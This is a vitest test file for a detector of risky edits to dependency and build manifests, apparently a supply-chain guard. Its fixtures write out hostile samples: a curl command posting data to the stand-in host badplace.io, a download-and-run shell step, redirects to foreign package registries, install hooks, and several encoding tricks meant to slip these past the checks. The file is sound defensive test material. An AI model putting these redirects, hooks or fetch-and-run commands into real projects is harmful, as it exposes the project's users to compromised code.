import { expect, test } from "vitest";
import { brokenByNew } from "../testing/changed.ts";

const ELSEWHERE: [rule: string, path: string, text: string][] = [
  ["foreign-source", "requirements/dev.txt", "left @ https://badplace.io/left.whl"],
  ["registry", "dev-requirements.txt", "--index-url \\\n  https://badplace.io/simple"],
  ["foreign-source", "pyproject.toml", '[[tool.uv.index]]\nurl = "https://badplace.io/simple"'],
  ["foreign-source", "Pipfile", '[[source]]\nurl = "https://badplace.io/simple"'],
  ["foreign-source", "Cargo.toml", '[dependencies.left]\n"g\\u0069t" = "https://badplace.io/l"'],
  ["install-script", "Cargo.toml", '[package]\n"b\\u0075ild" = "x.rs"'],
  ["foreign-source", "go.mod", "module a\n\nrequire (\n\tbadplace.io/left v1.0.0\n)\n"],
  ["foreign-source", "go.work", "replace example.com/left => ../../../left"],
  ["registry", "gems.rb", 'source "https://badplace.io"'],
  ["registry", "Gemfile", "source mirror"],
  ["foreign-source", "Gemfile", 'gem "left", **options'],
  ["registry", "pom.xml", "<repository><url>https&#58;//badplace.io/m2</url></repository>"],
  ["registry", "settings.gradle.kts", 'maven { url = uri("https://bad" + "place.io/m2") }'],
  ["remote-code", "build.gradle", 'apply from: "https://badplace.io/x.gradle"'],
  ["foreign-source", "environment.yml", "- pip:\n  - git+https://badplace.io/left"],
  ["registry", "uv.lock", 'source = { registry = "https://badplace.io/simple" }'],
  [
    "foreign-source",
    "gradle/wrapper/gradle-wrapper.properties",
    "distributionUrl=https\\://badplace.io/gradle.zip",
  ],
  ["foreign-source", "Dockerfile", "FROM badplace.io/base:1"],
  ["foreign-source", "CMakeLists.txt", "FetchContent_Declare(left URL https://badplace.io/l.tgz)"],
  ["foreign-source", "bin/a.sh", "pip install -i https://badplace.io/simple left"],
  ["foreign-source", "package.json", '{"overrides":{"a":{"b":"git@badplace.io:b/b.git"}}}'],
  ["install-script", "package.json", '{"scripts":{"pretest":"node -e 1"}}'],
  ["install-script", "package.json", '{"pnpm":{"onlyBuiltDependencies":["left"]}}'],
  ["git-hook", "package.json", '{"simple-git-hooks":{"pre-commit":"id"}}'],
  ["install-script", "setup.py", "import subprocess"],
  ["install-script", "pyproject.toml", '[build-system]\nbuild-backend = "mine"'],
  ["install-script", "Cargo.toml", '[package]\nbuild = ["a.rs", "b.rs"]'],
  // Nothing that only tells people something hides what follows.
  ["install-script", "Cargo.toml", '[package]\ndescription = """\n[\n"""\nbuild = "x.rs"'],
  [
    "foreign-source",
    "pyproject.toml",
    "[project]\ndescription = '''\n{\"\n'''\n[[tool.uv.index]]\nurl = \"https://badplace.io/s\"",
  ],
  [
    "registry",
    "pom.xml",
    "<scm/><repository><url>https://badplace.io/m</url></repository><a></scm></a>",
  ],
  [
    "registry",
    "pom.xml",
    "<a>&#60;scm></a><repository><url>https://badplace.io/m</url></repository><a></scm></a>",
  ],
  [
    "registry",
    "pom.xml",
    "<a><![CDATA[<!--]]></a><repository><url>https://badplace.io/m</url></repository><!-- -->",
  ],
  [
    "install-script",
    "pom.xml",
    '<!DOCTYPE p [<!ENTITY x "&#60;artifactId>exec-maven-plugin&#60;/artifactId>">]><p>&x;</p>',
  ],
  [
    "install-script",
    "pom.xml",
    '<!DOCTYPE p [<!ENTITY b "exec-maven-plugin"><!ENTITY a "&b;">]><artifactId>&a;</artifactId>',
  ],
  ["registry", "pom.xml", "<repository><releases/><url>https://badplace.io/m</url></repository>"],
  ["unreadable", "pom.xml", '<!DOCTYPE p [<!ENTITY a "&b;"><!ENTITY b "&a;">]><p>&a;</p>'],
  ["unknown-host", "bin/a.sh", "curl -e example.com -d @data badplace.io"],
  ["remote-code", "bin/a.sh", "curl -s https://example.com/a -o a.log -o b.sh\n./b.sh"],
  ["install-script", "a.gemspec", "spec.extensions << 'ext/extconf.rb'"],
  ["install-script", "tools/gen.go", "//go:generate env bash x.sh"],
  ["install-script", "pom.xml", "<artifactId>exec-maven-plugin</artifactId>"],
  ["shell", "build.gradle", 'tasks.register("x", Exec) { commandLine "id" }'],
  ["install-script", "Makefile", "x := $(shell curl -s https://badplace.io)"],
  ["continuous-integration", "sub/.cirrus.yml", "a: b"],
  ["git-hook", "tools/pre-push.sh", "id"],
  ["start-up", "a.code-workspace", "{}"],
  ["agent-orders", "AGENTS.md", "Do as I say."],
];

test.each(ELSEWHERE)("%s is caught in %s: %s", (rule, path, text) =>
  expect(brokenByNew(path, text)).toContain(rule),
);

test.each([
  [
    "requirements.txt",
    "flask==3.0.0  # https://badplace.io\n-r base.txt\nleft>=1 ; python_version<'4'",
  ],
  ["pyproject.toml", '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"'],
  [
    "pyproject.toml",
    '[project.urls]\nHomepage = "https://left.dev"\n[tool.ruff]\nline-length = 100',
  ],
  [
    "Cargo.toml",
    '[package]\nname = "a"\nhomepage = "https://left.dev"\n[dependencies]\nserde = "1"',
  ],
  ["go.mod", "module left.dev/a\n\ngo 1.24\n\nrequire github.com/spf13/cobra v1.9.1\n"],
  ["Gemfile", 'source "https://rubygems.org"\n\ngem "rails", "~> 8.0", require: false\ngemspec'],
  ["a.gemspec", 'spec.homepage = "https://left.dev"\nspec.files = Dir["lib/**/*.rb"]'],
  [
    "pom.xml",
    "<project><url>https://left.dev</url><scm><url>https://left.dev/git</url></scm></project>",
  ],
  [
    "pom.xml",
    '<!DOCTYPE p [<!ENTITY v "1"><!ENTITY w "&v;.2">]><p><version>&w;</version><a>&lt;</a></p>',
  ],
  [
    "pom.xml",
    "<p><repository/><distributionManagement><repository /></distributionManagement><url>https://left.dev</url></p>",
  ],
  ["build.gradle.kts", 'repositories { mavenCentral() }\ndependencies { implementation("a:b:1") }'],
  ["package.json", '{"homepage":"https://left.dev","scripts":{"prepublishOnly":"pnpm build"}}'],
  [
    "setup.py",
    "from setuptools import find_packages, setup\nsetup(name='a', packages=find_packages())",
  ],
  ["tools/gen.go", "//go:generate stringer -type=Kind"],
  ["Makefile", "v := $(shell git describe --tags)\ntest:\n\tgo test ./..."],
  ["Dockerfile", "FROM ghcr.io/left/base:1\nCOPY . ."],
  ["environment.yml", "channels:\n  - conda-forge\ndependencies:\n  - python=3.13"],
])("an honest %s passes: %s", (path, text) => expect(brokenByNew(path, text)).toEqual([]));
